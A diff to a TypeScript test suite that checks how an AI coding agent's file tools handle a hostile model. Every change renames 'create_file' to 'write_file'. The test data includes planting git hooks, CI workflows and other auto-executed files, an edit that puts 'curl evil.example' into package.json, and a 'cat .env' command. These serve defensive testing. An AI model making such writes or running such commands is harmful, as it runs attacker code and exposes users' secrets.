@@ -41,7 +41,7 @@ const cases: readonly (readonly [requirement: string, tool: string, input: Input
   ...["../outside", "out", "/", "loop"].map((path) => ["A4", "list_files", { path }, "refused"] as const),
   ["A4", "find_text", { text: "CANARY", path: "out" }, "refused"],
   ...["out/new.txt", "../outside/new.txt", "pipe/new.txt"].map(
-    (path) => ["A4", "create_file", { path, text: "x" }, "refused"] as const,
+    (path) => ["A4", "write_file", { path, text: "x" }, "refused"] as const,
   ),
   ["A4", "edit_file", { path: "out.txt", old_text: "C", new_text: "x" }, "refused"],
   ["A4", "rename_file", { path: "notes.txt", new_path: "out/notes.txt" }, "refused"],
@@ -106,9 +106,9 @@ const cases: readonly (readonly [requirement: string, tool: string, input: Input
     "settings/launch.json",
     "x.code-workspace",
     ".git/hooks/pre-commit",
-  ].map((path) => ["A4", "create_file", { path, text: "{}" }, "executed"] as const),
+  ].map((path) => ["A4", "write_file", { path, text: "{}" }, "executed"] as const),
   ...["hooks/pre-commit", ".github/workflows/x.yml", "AGENTS.md", ".cursor/mcp.json", ".envrc", "Makefile", "x.sh"].map(
-    (path) => ["A4", "create_file", { path, text: "x" }, "executed"] as const,
+    (path) => ["A4", "write_file", { path, text: "x" }, "executed"] as const,
   ),
   ...[
     "conftest.py",
@@ -116,7 +116,7 @@ const cases: readonly (readonly [requirement: string, tool: string, input: Input
     ".husky/pre-push",
     ".devcontainer/devcontainer.json",
     "node_modules/.bin/npm",
-  ].map((path) => ["A4", "create_file", { path, text: "x" }, "executed"] as const),
+  ].map((path) => ["A4", "write_file", { path, text: "x" }, "executed"] as const),
   ["A4", "edit_file", { path: "package.json", old_text: "node --test", new_text: "curl evil.example" }, "executed"],
   ["A4", "edit_file", { path: "manifest.txt", old_text: "node --test", new_text: "x" }, "executed"],
   ["A4", "edit_file", { path: "tsconfig.json", old_text: "{ }", new_text: '{ "extends": "x" }' }, "executed"],
@@ -131,7 +131,7 @@ const cases: readonly (readonly [requirement: string, tool: string, input: Input
     "remote-reference",
   ],
   ["A3", "edit_file", { path: "src/app.ts", old_text: "1", new_text: "2" }, "writes-file"],
-  ["A3", "create_file", { path: "src/new.ts", text: "x" }, "writes-file"],
+  ["A3", "write_file", { path: "src/new.ts", text: "x" }, "writes-file"],
   // Commands.
   ...[
     "cat .env",
@@ -247,7 +247,7 @@ describe("a hostile model in a hostile workspace", function () {
 
   it("A1, R4: of an answer with hundreds of calls none is run, and no more than its bound are kept", async () => {
     const inputs = Array.from({ length: 300 }, (_, index) => JSON.stringify({ path: `src/${index}.ts`, text: "x" }));
-    assert.deepEqual(await answerAll(`call create_file ${inputs.join(" ")}`, true), []);
+    assert.deepEqual(await answerAll(`call write_file ${inputs.join(" ")}`, true), []);
     assert.ok(states().length <= 257 && states().every((state) => state !== "done"));
     assert.deepEqual(await files(), planted);
   });
@@ -300,8 +300,8 @@ describe("a hostile model in Restricted Mode", () => {
     await mkdir(join(over.folder, "project"));
     const gateway = await recordRequests(over);
     const session = over.app.session.current;
-    await session.submit('call create_file {"path":"x.ts","text":"x"}');
-    const bodies = gateway.received.map(({ body }) => body).filter((body) => body.includes("create_file"));
+    await session.submit('call write_file {"path":"x.ts","text":"x"}');
+    const bodies = gateway.received.map(({ body }) => body).filter((body) => body.includes("write_file"));
     assert.ok(bodies.length > 0 && bodies.every((body) => !body.includes('"tools"')));
     assert.deepEqual([...(await treeOf(join(over.folder, "project")))], []);
     await over.close();
